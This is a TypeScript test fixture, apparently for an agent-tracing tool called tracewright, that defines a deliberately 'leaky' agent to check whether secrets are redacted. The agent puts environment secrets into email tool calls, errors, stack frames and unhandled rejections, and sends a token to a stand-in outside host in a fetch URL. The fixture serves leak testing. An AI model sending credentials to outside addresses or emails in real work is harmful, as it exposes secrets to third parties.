import { existsSync, readdirSync } from 'node:fs'
import { setTimeout as delay } from 'node:timers/promises'
import type { AgentRequest } from 'tracewright'

if (process.env.BROKEN !== undefined) throw new Error(`I do not load: ${process.env.SHAPED}`)

const { SHAPED = '', MY_API_KEY = '' } = process.env
const PLANTED = `${SHAPED} ${MY_API_KEY} by-pattern-003 by-function-004`

/** Ends this worker once another attempt is written down. */
async function killWhenJournaled(): Promise<void> {
  const folder = '.vitest/tracewright'
  while (!existsSync(folder) || !readdirSync(folder).some((name) => name.startsWith('journal-')))
    await delay(5)
  process.kill(process.pid, 'SIGKILL')
  await delay(60_000)
}

/** Throws where no case catches it: late, and in promises that nobody waits for. */
async function throwOutside(): Promise<void> {
  setTimeout(() => {
    throw new Error(`late ${PLANTED}`, { cause: new Error(`since ${PLANTED}`) })
  })
  void Promise.reject(Object.assign(new Error(`loose ${PLANTED}`), { token: { deep: PLANTED } }))
  void Promise.reject(`bare ${PLANTED}`)
  await delay(50)
}

/** Puts secrets into everything that an agent can: arguments, answer, errors and their causes, addresses. */
async function run({ prompt, tools }: AgentRequest): Promise<string> {
  if (process.env.OUTSIDE !== undefined) await throwOutside()
  const mail = tools.find(({ name }) => name === 'send_email')
  await mail?.invoke({ to: 'kim@example.com', subject: 'by-name-0005', body: `See ${PLANTED}` })
  await mail?.invoke({ to: PLANTED, subject: 'by-name-0005', body: '' }).catch(() => {})
  await fetch(`http://outside.example/?token=${SHAPED}`).catch(() => {})
  if (prompt.includes('fail')) {
    if (process.env.KILLED !== undefined) await killWhenJournaled()
    const error = new Error(`I failed with ${PLANTED} on by-name-0005`, {
      cause: new Error(`since ${PLANTED}`),
    })
    // A frame names the function that failed, and some libraries name functions after what they are about.
    error.stack += `\n    at ${PLANTED} (agent.ts:1:1)\n    at by-name-0005 (agent.ts:1:1)`
    throw error
  }
  return `I sent ${PLANTED} about by-name-0005.`
}

export default { name: process.env.AGENT_NAME ?? 'leaky', run }
